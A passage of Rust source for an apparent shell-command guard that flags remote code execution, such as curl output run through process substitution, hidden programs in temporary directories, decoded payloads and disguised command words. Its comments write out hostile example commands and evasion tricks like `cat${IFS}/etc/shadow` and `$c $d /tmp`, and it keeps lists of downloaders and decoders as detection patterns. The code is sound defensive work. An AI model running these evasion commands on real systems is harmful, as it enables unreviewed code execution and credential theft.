                    .filter_map(|w| w.strip_prefix("-javaagent:").or_else(|| w.strip_prefix("-agentpath:")))
                    .map(|w| w.split_once('=').map_or(w, |(f, _)| f)),
            ),
            _ => {}
        }
    }
    files
}

/// `BASH_ENV=<(curl ..) bash -c true`, `make -f <(curl ..)`, `NODE_OPTIONS='-r <(..)'`: a
/// process substitution handed over as code to run or load, where the program's own
/// operand (`bash <(..)`, judged with the interpreters above) is not the way in.
fn substituted_code(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let handed: Vec<&str> = if interpreter(cmd.name()) {
        loaded_by_variables(cmd)
    } else {
        files_run(cmd)
    };
    let Some(code) = handed.into_iter().find(|f| f.starts_with("<(") && !reads_files(f)) else {
        return;
    };
    let name = cmd.name();
    if FETCHERS.iter().any(|f| mentions(code, f)) || decodes(code) {
        out.push(block(
            Category::RemoteExecution,
            PROCESS_SUBSTITUTION,
            Risk::Critical,
            cmd,
            format!("hands {name} downloaded or decoded text as code to run"),
        ));
    } else {
        out.push(warn(
            Category::RemoteExecution,
            PROCESS_SUBSTITUTION,
            cmd,
            format!("hands {name} the output of a command as code to run"),
        ));
    }
}

/// `remote_execution.hidden_scratch_program`: a program or script run from a hidden file or
/// folder right in a temporary directory (`/tmp/.x`, `/dev/shm/.k/run`, `bash /var/tmp/.s.sh`,
/// `. /tmp/.3ec15c/env`, `/tmp/.d/python3 -c ..`), spelled any way that resolves there
/// (`//tmp/.x`, `/var/../tmp/.x`, `./.x` after `cd /tmp`). Scratch space is where anything on
/// the machine may write, and a dot name in it is how a dropped payload keeps out of `ls`: a
/// developer's scratch program has no reason to hide. Blocked. Only the first name below the
/// temporary directory counts: a project checked out there keeps its own dot folders
/// (`/tmp/proj/node_modules/.bin/jest`, `/tmp/proj/.venv/bin/pytest`), and a visible scratch
/// program (`gcc t.c -o /tmp/t && /tmp/t`) passes. So does anything inside the workspace,
/// wherever it lives, and a folder named as temporary-directory makers name theirs
/// (`/tmp/.tmpA1b2C3/`, Rust's `tempfile`): a dot there hides nothing.
fn hidden_scratch_program(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    const SCRATCH: &[&str] = &["/tmp", "/var/tmp", "/dev/shm", "$TMPDIR", "${TMPDIR}"];
    // The word as written counts too: `cp /tmp/agent /dev/shm/.a && /dev/shm/.a` runs the
    // copy, which the walker reads as the program it copied.
    let program = cmd.argv.first().filter(|w| w.contains('/')).map(String::as_str);
    let written = cmd.name_as_written.as_deref().filter(|w| w.contains('/'));
    for f in files_run(cmd).into_iter().chain(program).chain(written) {
        let joined = match &cmd.cwd {
            Some(cwd) if !f.starts_with(['/', '$', '~']) => cwd.join(f),
            _ => std::path::PathBuf::from(f),
        };
        let path = crate::guard::normalize(&joined);
        if path.starts_with(ctx.workspace) {
            continue;
        }
        let Some(inside) = SCRATCH.iter().find_map(|d| path.strip_prefix(d).ok()) else {
            continue;
        };
        let first = inside.components().next().map(|c| c.as_os_str().to_string_lossy());
        if first.is_some_and(|name| name.starts_with('.') && !name.starts_with(".tmp")) {
            out.push(block(
                Category::RemoteExecution,
                HIDDEN_SCRATCH_PROGRAM,
                Risk::High,
                cmd,
                format!("runs `{f}`, hidden in a temporary directory where anything may have written it, unread"),
            ));
            return;
        }
    }
}

/// The script file an interpreter's words name: the first operand, past the options and the
/// values of those that take one (`bash -o errexit x.sh`, `python3 -W ignore x.py`); none
/// when the program comes from elsewhere (`python3 -m json.tool f`, `bash -c ..`).
fn script_operand(args: &[String]) -> Option<&String> {
    const VALUED: &[&str] = &[
        "-o",
        "-O",
        "-W",
        "-X",
        "--rcfile",
        "--init-file",
        "-I",
        "-r",
        "--require",
    ];
    let mut words = args.iter();
    while let Some(a) = words.next() {
        if matches!(a.as_str(), "-m" | "-c" | "-e" | "-E" | "--eval" | "-p") {
            return None;
        }
        if VALUED.contains(&a.as_str()) {
            words.next();
        } else if !a.starts_with('-') || a == "-" {
            return Some(a);
        }
    }
    None
}

/// The files a program whose commands have a shell escape reads its commands from: its stdin
/// (`ed f < s.ed`), its command-file options (`psql -f`, `gdb -x`, `sqlite3 -init`), and
/// gnuplot's and dc's operands (their scripts).
fn command_files(cmd: &SimpleCommand) -> Vec<&String> {
    const COMMAND_FILE: &[&str] = &["-f", "--file", "-x", "--command", "-init"];
    let args = &cmd.argv[1..];
    let mut files: Vec<&String> = cmd.inputs.iter().collect();
    files.extend(
        args.windows(2)
            .filter(|w| COMMAND_FILE.contains(&w[0].as_str()))
            .map(|w| &w[1]),
    );
    if matches!(cmd.name(), "gnuplot" | "dc") {
        files.extend(args.iter().filter(|a| !a.starts_with('-')));
    }
    files
}

/// Where the text in a file run later came from: nobody read it either way.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Unread {
    Downloaded,
    Decoded,
}

/// The files `cmd` writes its output to: its `>`/`>>` targets, `tee`'s files, a decoder's
/// output file (`openssl enc -d -out F`, `base64 -d -o F`, `xxd -r IN OUT`).
fn written_with_output(cmd: &SimpleCommand) -> Vec<String> {
    let mut files = cmd.redirects.clone();
    let args = &cmd.argv[1.min(cmd.argv.len())..];
    let operands = || args.iter().filter(|a| !a.starts_with('-') || a.as_str() == "-");
    match cmd.name() {
        "tee" | "sponge" => files.extend(operands().cloned()),
        "dd" => files.extend(args.iter().filter_map(|a| a.strip_prefix("of=")).map(String::from)),
        "openssl" | "base64" => {
            let out = args
                .windows(2)
                .find(|w| matches!(w[0].as_str(), "-out" | "-o" | "--output"));
            files.extend(out.map(|w| w[1].clone()));
        }
        "xxd" if args.iter().any(|a| a.starts_with("-r")) => files.extend(operands().nth(1).cloned()),
        _ => {}
    }
    files.retain(|f| f != "-" && !f.starts_with("/dev/"));
    files
}

/// A downloader as data: the options naming the file it writes, whether it otherwise saves
/// under the URL's last part, and the options naming the directory it saves into.
struct Downloader {
    names: &'static [&'static str],
    output: &'static [&'static str],
    url_name: UrlName,
    dir: &'static [&'static str],
}

/// When a downloader without an output option names the file after the URL.
enum UrlName {
    Always,
    /// Only with one of these options (`curl -O`, `http --download`).
    With(&'static [&'static str]),
}

const DOWNLOADERS: &[Downloader] = &[
    Downloader {
        names: &["curl"],
        output: &["-o", "--output"],
        url_name: UrlName::With(&["-O", "--remote-name", "--remote-name-all"]),
        dir: &["--output-dir"],
    },
    Downloader {
        names: &["wget", "wget2"],
        output: &["-O", "--output-document"],
        url_name: UrlName::Always,
        dir: &["-P", "--directory-prefix"],
    },
    Downloader {
        names: &["aria2c"],
        output: &["-o", "--out"],
        url_name: UrlName::Always,
        dir: &["-d", "--dir"],
    },
    Downloader {
        names: &["axel", "fetch"],
        output: &["-o", "--output"],
        url_name: UrlName::Always,
        dir: &[],
    },
    // HTTPie and xh write the body to `-o FILE`, or under the URL's name with `--download`.
    Downloader {
        names: &["http", "https", "xh", "xhs"],
        output: &["-o", "--output"],
        url_name: UrlName::With(&["-d", "--download"]),
        dir: &[],
    },
];

/// The files a downloader writes (`curl -o F`, `curl -O URL` and `wget URL`: the URL's last
/// part, `wget -O F`, `aria2c -o F`, with `--output-dir`/`-P`/`-d` before them), a copy from
/// another machine writes, or a file-transfer client's `get` does; None for other commands.
/// Options are in their canonical form (`-sO` is `-s -O`, see `guard::options`).
fn downloaded_files(cmd: &SimpleCommand) -> Option<Vec<String>> {
    let name = cmd.name();
    if matches!(name, "scp" | "rsync") {
        return Some(copied_from_another_machine(cmd));
    }
    if matches!(name, "tftp" | "smbclient" | "lftp") {
        return Some(transfer_gets(cmd));
    }
    let Some(downloader) = DOWNLOADERS.iter().find(|d| d.names.contains(&name)) else {
        // `zorp https://host/x -o /tmp/x`: a program the guard does not know, handed an
        // address, writes what it fetches to the file its output option names.
        if !unknown_network_client(cmd) {
            return None;
        }
        return Some(
            crate::guard::carriers::option_value(
                &cmd.argv,
                &[
                    "-o",
                    "-O",
                    "--output",
                    "--out",
                    "--output-document",
                    "--outfile",
                    "--output-file",
                ],
                "",
            )
            .filter(|f| *f != "-")
            .map(String::from)
            .into_iter()
            .collect(),
        );
    };
    let args = &cmd.argv[1..];
    let value = |names: &[&str]| {
        args.iter().enumerate().find_map(|(i, a)| {
            names.iter().find_map(|n| {
                if a == n {
                    args.get(i + 1).cloned()
                } else {
                    a.strip_prefix(n)?.strip_prefix('=').map(String::from)
                }
            })
        })
    };
    let url_names = || {
        args.iter()
            .filter(|a| a.contains("://"))
            .filter_map(|u| u.split(['?', '#']).next()?.rsplit('/').next())
            .filter(|n| !n.is_empty())
            .map(String::from)
            .collect::<Vec<_>>()
    };
    let remote_name = match downloader.url_name {
        UrlName::Always => true,
        UrlName::With(flags) => args.iter().any(|a| flags.contains(&a.as_str())),
    };
    let dir = value(downloader.dir);
    let files: Vec<String> = match value(downloader.output) {
        Some(f) => vec![f],
        None if remote_name => url_names(),
        None => Vec::new(),
    };
    let files = files
        .into_iter()
        .filter(|f| f != "-" && !f.starts_with("/dev/std"))
        .map(|f| match &dir {
            Some(d) if !f.starts_with('/') => format!("{}/{f}", d.trim_end_matches('/')),
            _ => f,
        })
        .collect();
    Some(files)
}

/// `tftp HOST -c get REMOTE [LOCAL]`, `smbclient //h/s -c 'get REMOTE LOCAL'`, `lftp -c 'get
/// URL -o LOCAL'`: the local files a file-transfer client's `get` writes (LOCAL, or the
/// remote file's name). tftp's `-c` takes the words after it, the others one command line
/// whose commands `;` separates.
fn transfer_gets(cmd: &SimpleCommand) -> Vec<String> {
    let Some(at) = cmd.argv.iter().position(|a| a == "-c") else {
        return Vec::new();
    };
    let lines: Vec<Vec<&str>> = if cmd.name() == "tftp" {
        vec![cmd.argv[at + 1..].iter().map(String::as_str).collect()]
    } else {
        cmd.argv
            .get(at + 1)
            .map(|line| {
                line.split([';', '\n'])
                    .map(|c| c.split_whitespace().collect())
                    .collect()
            })
            .unwrap_or_default()
    };
    let remote_name = |r: &str| r.rsplit(['/', '\\']).next().unwrap_or(r).to_string();
    lines
        .iter()
        .filter_map(|words| {
            let (verb, rest) = words.split_first()?;
            if *verb != "get" {
                return None;
            }
            let out = rest.windows(2).find(|w| w[0] == "-o").map(|w| w[1].to_string());
            let operands: Vec<&str> = rest.iter().copied().filter(|w| !w.starts_with('-')).collect();
            out.or_else(|| operands.get(1).map(|l| l.to_string()))
                .or_else(|| operands.first().map(|r| remote_name(r)))
        })
        .filter(|f| !f.is_empty())
        .collect()
}

/// `scp host:/x /tmp/x`, `rsync -a user@host:payload ./bin/`: the local files a copy from
/// another machine writes (the destination, and inside a destination directory each source's
/// name). Nothing when every source is local.
fn copied_from_another_machine(cmd: &SimpleCommand) -> Vec<String> {
    // Options whose value is the next word.
    const VALUED: &[&str] = &[
        "-P", "-i", "-o", "-F", "-c", "-l", "-S", "-J", "-e", "--rsh", "-p", "--port",
    ];
    let mut operands: Vec<&str> = Vec::new();
    let mut skip = false;
    for a in &cmd.argv[1..] {
        if skip {
            skip = false;
        } else if a.starts_with('-') {
            skip = VALUED.contains(&a.as_str());
        } else {
            operands.push(a);
        }
    }
    let Some((dest, sources)) = operands.split_last() else {
        return Vec::new();
    };
    let remote = |w: &str| carriers::names_a_remote_file(w);
    let fetched: Vec<&&str> = sources.iter().filter(|s| remote(s)).collect();
    if fetched.is_empty() || remote(dest) {
        return Vec::new();
    }
    let mut files = vec![dest.to_string()];
    for source in fetched {
        if let Some(base) = source.rsplit(['/', ':']).next().filter(|b| !b.is_empty()) {
            files.push(format!("{}/{base}", dest.trim_end_matches('/')));
        }
    }
    files
}

/// A path as the file it names: against the directory the command runs in, in normal form
/// (`./x.sh`, `x.sh` and `/tmp/./x.sh` from `/tmp` are one file); as written when the
/// directory is not known.
fn as_file(path: &str, cwd: Option<&std::path::Path>) -> String {
    let joined = match cwd {
        Some(dir) => dir.join(path),
        None if path.starts_with('/') => std::path::PathBuf::from(path),
        None => return path.trim_start_matches("./").to_string(),
    };
    crate::guard::normalize(&joined).to_string_lossy().into_owned()
}

/// Programs whose output is text hidden in their input (decoded, reversed, unpacked).
const DECODERS: &[&str] = &[
    "base64", "base32", "basenc", "xxd", "rev", "uudecode", "gunzip", "zcat", "bzcat", "xzcat", "unxz", "zstdcat",
];

/// Whether substitution text runs a decoder (`$(rev <<< '..')`, `$(echo .. | base64 -d)`,
/// `openssl enc -base64 -d`): its output is text nobody reads before it runs.
fn decodes(text: &str) -> bool {
    text.contains("base64") || text.contains("xxd") || DECODERS.iter().any(|d| mentions(text, d))
}

/// `<(cat a.sh b.sh)`: a process substitution that only prints files, i.e. those files.
fn reads_files(word: &str) -> bool {
    let inner = word.strip_prefix("<(").and_then(|w| w.strip_suffix(')')).unwrap_or("");
    let mut words = inner.split_whitespace();
    words.next() == Some("cat")
        && words
            .clone()
            .all(|w| w.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_./".contains(&b)) && !w.starts_with('-'))
        && words.next().is_some()
}

fn mentions(text: &str, word: &str) -> bool {
    text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '/' || c == '.'))
        .any(|w| basename(w) == word)
}

/// `eval "$(ssh-agent -s)"` and similar environment setup.
fn benign_eval(text: &str) -> bool {
    const TOOLS: &[&str] = &[
        "ssh-agent",
        "pyenv",
        "rbenv",
        "nodenv",
        "goenv",
        "direnv",
        "conda",
        "brew",
        "starship",
        "zoxide",
        "fnm",
        "opam",
        "keychain",
        "dircolors",
        "gpg-agent",
        "mise",
        "rtx",
        "asdf",
        "thefuck",
        "luarocks",
        "jenv",
        // `eval $(minikube docker-env)`, `eval $(docker-machine env dev)`: local tool set-up.
        "minikube",
        "docker-machine",
        "ssh-agent",
        "nvm",
        "rustup",
        "uv",
        "poetry",
        "pipenv",
    ];
    TOOLS.iter().any(|t| mentions(text, t))
}

fn dynamic(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let r = Category::RemoteExecution;
    if !cmd.dynamic_name {
        return;
    }
    let word = cmd
        .name_as_written
        .as_deref()
        .or(cmd.argv.first().map(String::as_str))
        .unwrap_or("");
    // `retry() { "$@"; }`: a function's arguments, which its calls in the line supply (and
    // are judged with).
    if positional_parameter(word) {
        return;
    }
    // `exec gosu postgres "$BASH_SOURCE" "$@"`: the running script, run again.
    if matches!(
        word,
        "$0" | "${0}" | "$BASH_SOURCE" | "${BASH_SOURCE}" | "${BASH_SOURCE[0]}"
    ) {
        return;
    }
    // `echo${IFS}hello`: blanks spelled as `$IFS`, nothing hidden (the words are judged).
    if resolved(cmd) && split_at_blanks_only(word) {
        return;
    }
    if computed(word) {
        out.push(block(
            r,
            DYNAMIC_COMMAND,
            Risk::High,
            cmd,
            format!("the command word `{word}` is computed at run time"),
        ));
    } else {
        out.push(warn(
            r,
            DYNAMIC_COMMAND,
            cmd,
            format!("the command word `{word}` comes from a variable"),
        ));
    }
}

/// A command word that is computed by a program at run time (`$(echo rm)`, `` `x` ``, `<(..)`,
/// `${!name}`, `\x72m`) rather than looked up (`$(command -v python3)`, `$(which rm)`).
fn computed(word: &str) -> bool {
    let lookup = ["$(command -v ", "$(which ", "$(type -P "]
        .iter()
        .any(|p| word.starts_with(p) && word.ends_with(')') && word.matches('$').count() == 1);
    (word.contains("$(") && !lookup)
        || word.contains('`')
        || word.starts_with("<(")
        || word.contains("${!")
        || word.contains("\\x")
}

/// The command word was written as an expansion the walker resolved to a literal program: a
/// variable or array given a literal value earlier in the line (`R=rm; $R`, `"${a[@]}"`), a
/// word split at `$IFS` (`cat${IFS}/etc/shadow`), a program looked up (`$(command -v
/// python3)`). Such a command is judged by its value, and still warned for its hidden name
/// (a value the guard does not know to be dangerous may be); [`disguised`] blocks it when
/// that value is flagged.
fn resolved(cmd: &SimpleCommand) -> bool {
    cmd.name_as_written.is_some() && cmd.argv.first().is_some_and(|w| crate::guard::shell::is_literal(w))
}

/// A word whose only expansions are `$IFS` / `${IFS}` (word splitting, no value hidden).
fn split_at_blanks_only(word: &str) -> bool {
    crate::guard::shell::is_literal(&word.replace("${IFS}", " ").replace("$IFS", " "))
}

/// `$@`, `"$@"`, `$*`, `$1`, `${2}`: a positional parameter.
fn positional_parameter(word: &str) -> bool {
    let w = word.trim_matches('"');
    let w = w
        .strip_prefix("${")
        .and_then(|r| r.strip_suffix('}'))
        .or_else(|| w.strip_prefix('$'));
    w.is_some_and(|p| p == "@" || p == "*" || (!p.is_empty() && p.chars().all(|c| c.is_ascii_digit()) && p != "0"))
}

/// `c=rm; d=-rf; $c $d /tmp`, `cat${IFS}/etc/shadow`: a command the rules flag, whose program
/// was hidden behind an expansion the walker resolved. Hiding a command that is flagged
/// anyway is the disguise of a bypass: blocked. `violations` are those the rules found for
/// `cmd`.
pub fn disguised(cmd: &SimpleCommand, violations: &[Violation]) -> Option<Violation> {
    if !cmd.dynamic_name || !resolved(cmd) {
        return None;
    }
    let flagged = violations
        .iter()
        .any(|v| v.rule != DYNAMIC_COMMAND && v.recommendation >= crate::guard::Recommendation::Warn);
    let word = cmd.name_as_written.as_deref()?;
    flagged.then(|| {
        block(
            Category::RemoteExecution,
            DYNAMIC_COMMAND,
            Risk::High,
            cmd,
            format!("hides the program of a flagged command behind `{word}`"),
        )
    })
}

/// `remote_execution.untrusted_source` (warn): packages installed from, or a registry set to,
/// a plain-http index on a non-local host.
fn untrusted_source(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let name = cmd.name();
    let installer = name.starts_with("pip")
        || matches!(
            name,
            "uv" | "poetry" | "npm" | "pnpm" | "yarn" | "bun" | "gem" | "cargo" | "python" | "python3"
        );
    if !installer {
        return;
    }
    const OPTIONS: &[&str] = &[
        "--index-url",
        "-i",
        "--extra-index-url",
        "--registry",
        "--source",
        "--index",
        "registry",
    ];
    let plain = |v: &str| {
        let Some(rest) = v.strip_prefix("http://") else {
            return false;
        };
        let host = rest.split(['/', ':']).next().unwrap_or("");
        !matches!(host, "localhost" | "127.0.0.1" | "[::1]" | "0.0.0.0") && !host.ends_with(".local")
    };
    let found = cmd.argv.iter().enumerate().skip(1).any(|(i, a)| {
        let value = match a.split_once('=') {
            Some((o, v)) if OPTIONS.contains(&o) => Some(v),
            _ => OPTIONS
                .contains(&a.as_str())
                .then(|| cmd.argv.get(i + 1).map(String::as_str))
                .flatten(),
        };
        value.is_some_and(plain)
    });
    if found {
        out.push(warn(
            Category::RemoteExecution,
            UNTRUSTED_SOURCE,
            cmd,
            "installs packages from (or points the registry at) a plain-http index anyone on the path can tamper with",
        ));
    }
}
